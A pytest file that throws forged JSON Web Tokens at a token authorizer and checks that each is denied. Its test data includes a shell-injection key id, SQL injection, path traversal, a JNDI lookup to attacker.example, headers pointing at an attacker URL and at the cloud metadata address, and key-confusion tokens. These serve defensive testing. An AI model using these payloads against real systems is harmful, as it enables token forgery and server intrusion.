"""Attacks on tokens, thrown at the authorizer's handler as a whole, for each family of algorithms.

tests/unit/tokens has the reason of each refusal and every shape of every claim; here it counts that nothing gets
through any configuration, that nothing is fetched, and that no attack becomes a 500.
"""

from __future__ import annotations

import json
import time
from collections.abc import Iterator
from dataclasses import dataclass
from typing import Any

import pytest
from cryptography.hazmat.primitives.serialization import Encoding, PublicFormat
from jwt.algorithms import get_default_algorithms
from pytest_socket import disable_socket, enable_socket

from taskapi.settings import TokenSettings
from taskapi.tokens.authorizer import Authorizer
from taskapi.tokens.errors import UnknownKeyYet
from taskapi.tokens.jwks import PublishedKeys
from taskapi.tokens.keys import InlineKeys, KeySet
from taskapi.tokens.secret import SharedSecret
from tests.support.access_tokens import (
    AUDIENCE,
    ISSUER,
    SHARED_SECRET,
    base64url,
    claims,
    compact,
    hmac_signed,
    token,
)
from tests.support.proxy_events import FakeContext, token_event
from tests.support.signing_keys import ALGORITHM_KINDS, key_set, signing_key

EVIL = "https://attacker.example/keys.json"
FAMILIES = ("RS256", "PS256", "ES256", "EdDSA", "HS256")


@pytest.fixture(autouse=True)
def _no_sockets() -> Iterator[None]:
    disable_socket()
    yield
    enable_socket()


def settings(algorithm: str) -> TokenSettings:
    return TokenSettings("dev", ISSUER, (AUDIENCE,), "aud", (algorithm,))


@dataclass(frozen=True)
class Family:
    """An authorizer that accepts one algorithm, and what its issuer signs with."""

    algorithm: str

    @property
    def private(self) -> Any:
        return SHARED_SECRET if self.algorithm == "HS256" else signing_key(ALGORITHM_KINDS[self.algorithm]).private

    @property
    def jwk(self) -> dict[str, Any]:
        return signing_key(ALGORITHM_KINDS[self.algorithm]).jwk(kid="1", use="sig", alg=self.algorithm)

    @property
    def authorizer(self) -> Authorizer:
        if self.algorithm == "HS256":
            secret = SharedSecret("arn", fetch=lambda _arn, stage: SHARED_SECRET if stage == "AWSCURRENT" else None)
            return Authorizer(settings("HS256"), secret)
        return Authorizer(settings(self.algorithm), InlineKeys(KeySet.parse(key_set(self.jwk))))

    def signed(self, header: dict[str, Any] | None = None, **changes: Any) -> str:
        """A token with a genuine signature of the issuer."""
        return token(self.private, self.algorithm, claims(**changes), **{"kid": "1", **(header or {})})

    def genuine(self, header: dict[str, Any], payload: dict[str, Any]) -> str:
        """A genuine signature of the issuer over any header and claims, also those that PyJWT would not sign."""
        signing_input = compact(header, payload, b"").rpartition(".")[0]
        algorithm = get_default_algorithms()[self.algorithm]
        signature = algorithm.sign(signing_input.encode(), algorithm.prepare_key(self.private))
        return f"{signing_input}.{base64url(signature)}"

    def with_signature(self, signature: bytes) -> str:
        return compact({"alg": self.algorithm, "kid": "1"}, claims(), signature)


@pytest.fixture(params=FAMILIES)
def family(request: pytest.FixtureRequest) -> Family:
    return Family(request.param)


def verdict(authorizer: Authorizer, text: str) -> str:
    """``Allow`` or ``Deny``; a Deny carries no identity."""
    answer = authorizer(token_event(f"Bearer {text}"), FakeContext())
    effect: str = answer["policyDocument"]["Statement"][0]["Effect"]
    if effect == "Deny":
        assert "context" not in answer
        assert answer["principalId"] == "anonymous"
    return effect


def denied(family: Family, *tokens: str) -> None:
    for text in tokens:
        assert verdict(family.authorizer, text) == "Deny", text


def test_a_good_token_gets_through(family: Family) -> None:
    # Without this, an authorizer that denies everything would pass all of the below.
    assert verdict(family.authorizer, family.signed()) == "Allow"


@pytest.mark.parametrize("spelling", ["none", "None", "NONE", "nOnE", "none ", "\u0131none", "null", "", None, 0, []])
def test_no_algorithm_in_any_spelling(family: Family, spelling: object) -> None:
    genuine = family.signed().rpartition(".")[2]
    header = base64url(json.dumps({"alg": spelling, "kid": "1"}).encode())
    payload = base64url(json.dumps(claims()).encode())
    denied(family, f"{header}.{payload}.", f"{header}.{payload}.{genuine}", f"{header}.{payload}.AA")


def test_public_keys_as_shared_secrets(family: Family) -> None:
    # Given every form in which the issuer's public key can be had
    key = signing_key(ALGORITHM_KINDS.get(family.algorithm, "RSA"))
    public = key.private.public_key()
    pem = public.public_bytes(Encoding.PEM, PublicFormat.SubjectPublicKeyInfo)
    forms = [
        pem, pem.strip(), pem + b"\n",
        public.public_bytes(Encoding.DER, PublicFormat.SubjectPublicKeyInfo),
        json.dumps(key.jwk(kid="1")).encode(), key_set(key.jwk(kid="1")).encode(),
        b"", b"1", b"null",
    ]  # fmt: skip
    # When tokens are signed with it as an HMAC secret, then none passes, whatever the header says
    for form in forms:
        for algorithm in ("HS256", "hs256", family.algorithm):
            denied(family, hmac_signed({"alg": algorithm, "kid": "1", "typ": "JWT"}, claims(), form))


def test_another_algorithm_with_a_key_of_its_own(family: Family) -> None:
    for algorithm, kind in ALGORITHM_KINDS.items():
        if algorithm != family.algorithm:
            denied(family, token(signing_key(kind, "attacker").private, algorithm, kid="1"))


def test_keys_in_the_header_are_not_followed(family: Family) -> None:
    # Given an attacker with a key pair (or a secret) of the right kind, who names it in every way that a header can
    if family.algorithm == "HS256":
        private: Any = "the attacker's own secret, which is long enough"
        jwk = {"kty": "oct", "k": base64url(private.encode())}
    else:
        attacker = signing_key(ALGORITHM_KINDS[family.algorithm], "attacker")
        private, jwk = attacker.private, attacker.jwk(kid="1")
    for members in (
        {"jwk": jwk}, {"jku": EVIL}, {"x5u": EVIL}, {"x5c": ["MIIBszCCARygAwIBAgI="]},
        {"jku": f"{ISSUER}@attacker.example/"}, {"jku": "http://169.254.169.254/latest/meta-data/"},
        {"jwk": jwk, "jku": EVIL, "x5u": "file:///dev/null", "x5t": "x", "x5t#S256": "x"},
    ):  # fmt: skip
        for kid in ({"kid": "1"}, {"kid": "attacker"}, {}):
            header: dict[str, Any] = {**members, **kid}
            denied(family, token(private, family.algorithm, **header))


@pytest.mark.parametrize(
    "kid",
    [
        "../../../../dev/null", "/dev/null", "1' UNION SELECT 'secret", "1; cat /etc/passwd", "1\u0000", "1 ", "",
        EVIL, "$" + "{jndi:ldap://attacker.example/a}", "x" * 4_000, 1, ["1"], {"1": "1"}, True,
    ],
)  # fmt: skip
def test_key_ids_are_no_instructions(family: Family, kid: object) -> None:
    # Signed with what such a kid is meant to lead to: an empty file, or a secret of the attacker's choice
    header = {"alg": family.algorithm, "kid": kid}
    denied(family, *(hmac_signed(header, claims(), secret) for secret in (b"", b"secret", b"\x00")))


def test_extensions_that_must_be_understood(family: Family) -> None:
    # Given headers with genuine signatures, of which one is plain and gets through
    plain = {"alg": family.algorithm, "kid": "1"}
    assert verdict(family.authorizer, family.genuine(plain, claims())) == "Allow"
    # When they ask for extensions, known to the library or not, then they are refused
    for crit in (["exp"], ["b64"], ["x"], [], None, "b64"):
        denied(family, family.genuine({**plain, "crit": crit, "b64": True, "x": 1}, claims()))


def test_blank_and_degenerate_signatures(family: Family) -> None:
    n = 0xFFFFFFFF00000000FFFFFFFFFFFFFFFFBCE6FAADA7179E84F3B9CAC2FC632551  # the order of P-256
    for signature in (
        b"\x00", b"\x00" * 32, b"\x00" * 64, b"\x00" * 256, b"\x01" * 64,
        (0).to_bytes(32) + (1).to_bytes(32), (1).to_bytes(32) + (0).to_bytes(32),
        n.to_bytes(32) * 2, (n - 1).to_bytes(32) + n.to_bytes(32),
        bytes.fromhex("3006020100020100"),  # r = s = 0 in DER
    ):  # fmt: skip
        denied(family, family.with_signature(signature))
    head = family.signed().rpartition(".")[0]
    denied(family, f"{head}.", f"{head}.=", f"{head}. ")


def test_wrong_times_issuers_audiences_and_subjects(family: Family) -> None:
    now = int(time.time())
    wrong: list[dict[str, Any]] = [
        {"exp": now - 60}, {"exp": 0}, {"exp": -1}, {"exp": str(now + 600)}, {"exp": None}, {"exp": ...},
        {"exp": True}, {"exp": [now + 600]}, {"nbf": now + 86_400}, {"iat": now + 86_400}, {"nbf": "tomorrow"},
        {"iss": ...}, {"iss": None}, {"iss": ""}, {"iss": ISSUER.rstrip("/")}, {"iss": ISSUER.upper()},
        {"iss": [ISSUER]}, {"iss": {"url": ISSUER}}, {"iss": ISSUER + "@attacker.example"},
        {"aud": ...}, {"aud": None}, {"aud": ""}, {"aud": []}, {"aud": [None]}, {"aud": {AUDIENCE: 1}},
        {"aud": AUDIENCE + "/"}, {"aud": AUDIENCE[:-1]}, {"aud": "*"}, {"aud": [[AUDIENCE]]},
        {"sub": ...}, {"sub": None}, {"sub": ""}, {"sub": 1}, {"sub": ["alice"]}, {"sub": {"alice": 1}},
        {"sub": "alice#TASK"}, {"sub": "alice\nbob"}, {"sub": "alice\u0000"}, {"sub": "a" * 257}, {"sub": True},
    ]  # fmt: skip
    for changes in wrong:
        denied(family, family.genuine({"alg": family.algorithm, "kid": "1"}, claims(**changes)))


def test_a_token_in_a_token_and_an_encrypted_one(family: Family) -> None:
    inner = family.signed()
    header = {"alg": family.algorithm, "kid": "1", "cty": "JWT"}
    denied(family, compact(header, inner.encode(), b"\x01" * 64))
    jwe = {"alg": "dir", "enc": "A256GCM", "zip": "DEF", "p2c": 2_147_483_647}
    denied(family, ".".join([base64url(json.dumps(jwe).encode()), "", "AA", "AA", "AA"]))
    denied(family, compact({"alg": "PBES2-HS256+A128KW", "p2c": 2_147_483_647}, b"x", b"x"))


def test_only_the_configured_key_set_is_ever_fetched() -> None:
    # Given an authorizer that fetches its keys, and a clock that stands still
    family = Family("EdDSA")
    fetched: list[str] = []

    def fetch(url: str) -> str:
        fetched.append(url)
        return key_set(family.jwk)

    keys = PublishedKeys("https://issuer.example.com/keys", fetch=fetch, monotonic=lambda: 1_000.0)
    authorizer = Authorizer(settings("EdDSA"), keys)
    attacker = signing_key("Ed25519", "attacker")

    # When a flood of tokens names other places and invented keys, then one document is fetched, once
    for number in range(50):
        members: dict[str, Any] = {
            "jku": EVIL,
            "x5u": f"{EVIL}?{number}",
            "jwk": attacker.jwk(kid=f"k{number}"),
            "kid": f"k{number}",
        }
        text = token(attacker.private, "EdDSA", **members)
        if number == 0:
            assert verdict(authorizer, text) == "Deny"
        else:  # as that key may have been published since; each such token still gets its caller nothing
            with pytest.raises(UnknownKeyYet):
                verdict(authorizer, text)
    assert fetched == ["https://issuer.example.com/keys"]

    # And the good ones are not locked out by them
    assert verdict(authorizer, family.signed()) == "Allow"
